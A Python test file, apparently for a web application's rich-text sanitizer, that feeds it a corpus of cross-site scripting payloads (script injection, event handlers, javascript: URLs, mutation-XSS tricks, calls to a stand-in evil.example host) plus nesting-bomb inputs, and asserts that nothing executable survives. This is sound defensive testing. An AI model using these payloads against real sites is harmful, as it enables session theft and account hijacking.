"""Formatted text holds nothing that runs, loads or deceives: on the way in, and whenever it is shown."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.fields.rich_policy import DEEPEST, REL, SCHEMES, TAGS, as_html, plain_text, sanitized
from core.fields.rich_text import typed_text

CORPUS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<p onclick=alert(1) style=position:fixed class=btn id=main>a</p>",
    "<p title=deceiving lang=fa>a</p>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "<a href=' \x01javascript:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href=vbscript:msgbox(1)>a</a>",
    "<a href=//evil.example>a</a>",
    "<a href=/records/x/1/delete>a</a>",
    "<a href='https://x/\"onmouseover=alert(1)'>a</a>",
    "<a href=https://x target=_blank rel=opener ping=//evil.example download>a</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>a</form>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>",
    "<style>@import '//evil.example'</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>\u0338<script\u0338>alert(1)</script>",
    "<details open ontoggle=alert(1)><video src=x onerror=alert(1)><audio onerror=alert(1) src=x>",
    "<x onfocus=alert(1) tabindex=1 autofocus>a</x>",
    "<ui-form data-url=//evil.example hx-get=//evil.example hx-trigger=load>a</ui-form>",
    "<p hx-get=/sign-out hx-trigger=load data-confirm=x>a</p>",
    "<ol start=javascript:alert(1) type=i><li>a</ol><ul start=3><li>a</ul><ol start='99999999999'><li>a</ol>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<p>",
    "\ufe64script\ufe65alert(1)<p>",
)


class Seen(HTMLParser):
    """What a browser would find in markup."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.odd: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data):
        self.odd.append(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def assert_harmless(markup: str) -> None:
    seen = Seen(markup)
    assert seen.tags <= TAGS
    assert not seen.odd
    for tag, name, value in seen.attributes:
        if name == "href":
            assert tag == "a"
            assert value.partition(":")[0].lower() in SCHEMES
            assert not re.search(r"[\s\"'<>\x00-\x20]", value)
        elif name == "start":
            assert tag == "ol"
            assert value.isdecimal()
        else:
            assert (name, value) in {("dir", "auto"), ("rel", REL)}
    assert ("a" in seen.tags) <= (("a", "rel", REL) in seen.attributes)


@pytest.mark.parametrize("attack", CORPUS)
def test_nothing_of_an_attack_is_left_on_write_or_on_render(attack):
    for text in (attack, f"<p>before</p>{attack}<p>after</p>", f"<ul><li>{attack}"):
        for found in (as_html(text), sanitized(text)):
            assert_harmless(found)
            assert sanitized(found) == found


PIECES = st.sampled_from(
    [
        *CORPUS,
        *(f"<{tag}>" for tag in sorted(TAGS)),
        *(f"</{tag}>" for tag in sorted(TAGS)),
        "<b>", "</b>", "<div>", "</div>", "<table><tr><td>", "</td>", "<!--", "-->", "<", ">", '"', "'", "&", "&lt;", "&#x3c;",
        "<a href='", "<a href=https://example.com/", "javascript:", " onload=", "ي", "\u0338", "\x0b", "\u202e", " ", "\n\n", "سلام", "x",
    ]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES | st.text(max_size=5), max_size=14).map("".join))
def test_cleaning_leaves_nothing_that_runs_and_twice_is_the_same_as_once(text):
    once = as_html(text)
    assert_harmless(once)
    assert sanitized(once) == once
    assert as_html(once) == once
    assert plain_text(once) == plain_text(as_html(once))


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(exclude_categories=("Cs", "Cc"), include_characters="\n"), max_size=80))
def test_plain_text_without_a_script_is_typed_as_it_reads(text):
    markup = as_html(text)
    assert as_html(typed_text(markup)) == markup


@pytest.mark.parametrize(
    "bomb",
    [
        "<ul><li>" * 25_000,
        "<b></i>" * 25_000,
        "<a><ul></a>" * 18_000,
        "<ul></x>" * 25_000,
        "".join(f"<p><b id={n}></p>" for n in range(10_000)),
    ],
    ids=["nested", "closed by others", "reopened", "closed by nobody", "never closed"],
)
def test_what_would_take_minutes_to_read_becomes_plain_text(bomb):
    begun = time.process_time()
    found = as_html(f"{bomb}<p>words</p>")
    assert time.process_time() - begun < 10, "unguarded the first of these takes minutes"
    assert plain_text(found) == "words"


def test_real_nesting_stays():
    depth = DEEPEST // 2 - 1
    text = "<ul><li>" * depth + "x" + "</li></ul>" * depth
    assert as_html(text).count("<ul") == depth


def test_a_list_goes_on_counting_where_it_was_told_to():
    found = as_html("<p>a</p><ol start=3><li>b</li><li>c</li></ol>")
    assert '<ol start="3" dir="auto">' in found or '<ol dir="auto" start="3">' in found
    assert plain_text(found) == "a\n\n3. b\n4. c"


def test_lists_and_quotations_lead_what_stands_in_them():
    found = as_html(
        "<p>a</p><ul><li><p>یک</p><ol><li><p>دو</p></li></ol></li></ul><blockquote><p>q</p></blockquote><h3>t</h3>"
    )
    assert found == (
        '<p dir="auto">a</p><ul dir="auto"><li><p>یک</p><ol dir="auto"><li><p>دو</p></li></ol></li></ul>'
        '<blockquote dir="auto"><p>q</p></blockquote><h3 dir="auto">t</h3>'
    )
